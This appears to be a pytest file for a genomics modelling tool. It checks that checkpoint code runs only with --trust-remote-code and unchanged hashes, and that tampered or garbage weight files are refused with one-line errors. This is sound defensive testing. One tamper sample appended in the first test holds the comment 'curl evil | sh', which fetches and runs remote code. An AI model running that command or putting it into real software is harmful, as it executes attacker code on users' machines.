"""Nothing runs a checkpoint's code unless this command line says --trust-remote-code, and then only the code
whose sha256 training recorded; weights whose sha256 no longer matches their record are refused in one line
(issue 20, code execution)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import make_toydna_checkpoint, run_cli
from test_inference import hand_made_lr_run

from dnactx.errors import DnactxError


@pytest.fixture
def toydna(tmp_path: Path) -> Path:
    return make_toydna_checkpoint(tmp_path / "toydna")


def _flip_a_byte(path: Path, at: int = -8) -> None:
    data = bytearray(path.read_bytes())
    data[at] ^= 0xFF
    path.write_bytes(bytes(data))


# -- code: the opt-in and the recorded hashes ----------------------------------------------------------------------
def test_code_runs_only_with_the_opt_in_and_unchanged_since_it_was_recorded(toydna: Path) -> None:
    from dnactx.models.checkpoint import trusted_code

    with pytest.raises(DnactxError, match="pass --trust-remote-code"):
        trusted_code(toydna, "toy", False, None, "it was recorded")
    recorded = trusted_code(toydna, "toy", True, None, "it was recorded")
    assert set(recorded) == {"configuration_toydna.py", "modeling_toydna.py", "tokenization_toydna.py"}
    assert trusted_code(toydna, "toy", True, recorded, "it was recorded") == recorded
    with open(toydna / "modeling_toydna.py", "a", encoding="utf-8") as fh:
        fh.write("\nimport os  # os.system('curl evil | sh')\n")
    with pytest.raises(DnactxError, match=r"modeling_toydna.py has changed since it was recorded") as err:
        trusted_code(toydna, "toy", True, recorded, "it was recorded")
    assert "\n" not in str(err.value)


def test_a_python_file_added_beside_the_checkpoint_code_is_refused(toydna: Path) -> None:
    """Modules the auto_map code imports relatively are code too: an unrecorded one is not run."""
    from dnactx.models.checkpoint import trusted_code

    recorded = trusted_code(toydna, "toy", True, None, "it was recorded")
    (toydna / "helpers.py").write_text("print('hello')\n")
    with pytest.raises(DnactxError, match=r"helpers.py was not there when it was recorded"):
        trusted_code(toydna, "toy", True, recorded, "it was recorded")


@pytest.fixture(scope="module")
def toydna_run(tmp_path_factory) -> tuple[Path, str, Path]:
    """(home, run id, checkpoint) of a frozen run trained with --trust-remote-code on the toy checkpoint."""
    from conftest import make_tiny_dataset

    from dnactx.train.config import TrainConfig
    from dnactx.train.run import train_run

    tmp = tmp_path_factory.mktemp("toydna_run")
    checkpoint = make_toydna_checkpoint(tmp / "toydna")
    config = TrainConfig(data=str(make_tiny_dataset(tmp / "data")), model=str(checkpoint), size=20, epochs=1,
                         finetune="frozen", trust_remote_code=True, bootstrap=0)
    result = train_run(config, tmp / "home", quiet=True)
    assert result["status"] == "completed"
    return tmp / "home", result["run_id"], checkpoint


@pytest.mark.slow
def test_a_runs_stored_opt_in_does_not_suffice_and_changed_code_is_refused(toydna_run, tmp_path: Path,
                                                                            capsys) -> None:
    from dnactx.inference import load_scorer
    from dnactx.runs import RunFolder

    home, run_id, checkpoint = toydna_run
    config = RunFolder(home / run_id).config
    assert config["trust_remote_code"] is True and set(config["checkpoint_code"]) >= {"modeling_toydna.py"}
    genome = tmp_path / "g.fa"
    genome.write_text(">c\n" + "ACGTTCGACCAGCTAGCATCGA" * 20 + "\n")
    args = ["--home", str(home), "predict", run_id, "--genome", str(genome), "--out", str(tmp_path / "pred")]
    code, _, err = run_cli(args, capsys)
    assert code == 2 and "--trust-remote-code" in err and "modeling_toydna.py" in err
    assert len(err.strip().splitlines()) == 1 and not (tmp_path / "pred").exists()
    assert load_scorer(run_id, home, trust_remote_code=True).recipe.family == "transformer"
    original = (checkpoint / "modeling_toydna.py").read_text()
    try:
        (checkpoint / "modeling_toydna.py").write_text(original + "\nTAMPERED = True\n")
        code, _, err = run_cli([*args, "--trust-remote-code"], capsys)
        assert code == 2 and "modeling_toydna.py has changed since this run was trained" in err
        with pytest.raises(DnactxError, match="modeling_toydna.py has changed"):
            load_scorer(run_id, home, trust_remote_code=True)
        code, _, err = run_cli(["--home", str(home), "export", run_id, "--out", str(tmp_path / "m"),
                                "--trust-remote-code"], capsys)
        assert code == 2 and "modeling_toydna.py" in err and not (tmp_path / "m").exists()
    finally:
        (checkpoint / "modeling_toydna.py").write_text(original)


@pytest.mark.slow
def test_a_tampered_config_pointing_at_a_checkpoint_with_code_is_refused(toydna_run, tmp_path: Path) -> None:
    """A run's config.json edited to point at another checkpoint that ships code, saying trust_remote_code true."""
    from dnactx.inference import load_scorer
    from dnactx.runs import RunFolder

    home, run_id, checkpoint = toydna_run
    folder = RunFolder(home / run_id)
    config = dict(folder.config)
    evil = make_toydna_checkpoint(tmp_path / "evil")
    (folder.path / "config.json").write_text(json.dumps({**config, "checkpoint_path": str(evil),
                                                         "trust_remote_code": True, "checkpoint_code": {}}))
    try:
        with pytest.raises(DnactxError, match="pass --trust-remote-code"):
            load_scorer(run_id, home)
        with pytest.raises(DnactxError, match=r"evil/\w+_toydna.py was not there when this run was trained"):
            load_scorer(run_id, home, trust_remote_code=True)
    finally:
        (folder.path / "config.json").write_text(json.dumps(config))


@pytest.mark.slow
def test_an_export_runs_only_the_code_it_was_exported_with(toydna_run, tmp_path: Path) -> None:
    from dnactx.inference import load_scorer
    from dnactx.inference.export import export_model

    home, run_id, _ = toydna_run
    out = tmp_path / "model"
    export_model(run_id, out, home, trust_remote_code=True)
    with pytest.raises(DnactxError, match="pass --trust-remote-code"):
        load_scorer(out)
    assert load_scorer(out, trust_remote_code=True).recipe.family == "transformer"
    code_file = next(p for p in out.glob("*.py"))
    code_file.write_text(code_file.read_text() + "\n# changed\n")
    with pytest.raises(DnactxError, match=f"{code_file.name} has changed since it was written"):
        load_scorer(out, trust_remote_code=True)


# -- weights: their recorded sha256 -------------------------------------------------------------------------------
def test_tampered_run_weights_are_one_line_naming_the_file(tmp_path: Path, tiny_dataset: Path, capsys) -> None:
    home = tmp_path / "runs"
    run_id = hand_made_lr_run(home, tiny_dataset)
    weights = home / run_id / "lr.safetensors"
    _flip_a_byte(weights)
    genome = tmp_path / "g.fa"
    genome.write_text(">c\nACGTTCGACCAGCTAGCATCGA\n")
    code, _, err = run_cli(["--home", str(home), "predict", run_id, "--genome", str(genome), "--out",
                            str(tmp_path / "pred")], capsys)
    assert code == 2 and str(weights) in err and "has changed since it was written" in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err


def test_garbage_weights_are_one_line_not_a_safetensors_traceback(tmp_path: Path, tiny_dataset: Path,
                                                                   capsys) -> None:
    home = tmp_path / "runs"
    run_id = hand_made_lr_run(home, tiny_dataset)
    (home / run_id / "lr.safetensors").write_bytes(b"\xff" * 64)  # a header length no file has
    code, _, err = run_cli(["--home", str(home), "export", run_id, "--out", str(tmp_path / "m")], capsys)
    assert code == 2 and "lr.safetensors has changed" in err and "SafetensorError" not in err


def test_tampered_exported_weights_are_refused_naming_the_file(tmp_path: Path, tiny_dataset: Path) -> None:
    from dnactx.inference import load_scorer
    from dnactx.inference.export import export_model

    home = tmp_path / "runs"
    out = tmp_path / "model"
    export_model(hand_made_lr_run(home, tiny_dataset), out, home)
    assert load_scorer(out).recipe.family == "lr"
    _flip_a_byte(out / "lr.safetensors")
    with pytest.raises(DnactxError, match=r"model/lr.safetensors has changed since it was written"):
        load_scorer(out)
    (out / "lr.safetensors").unlink()
    with pytest.raises(DnactxError, match=r"lr.safetensors"):
        load_scorer(out)
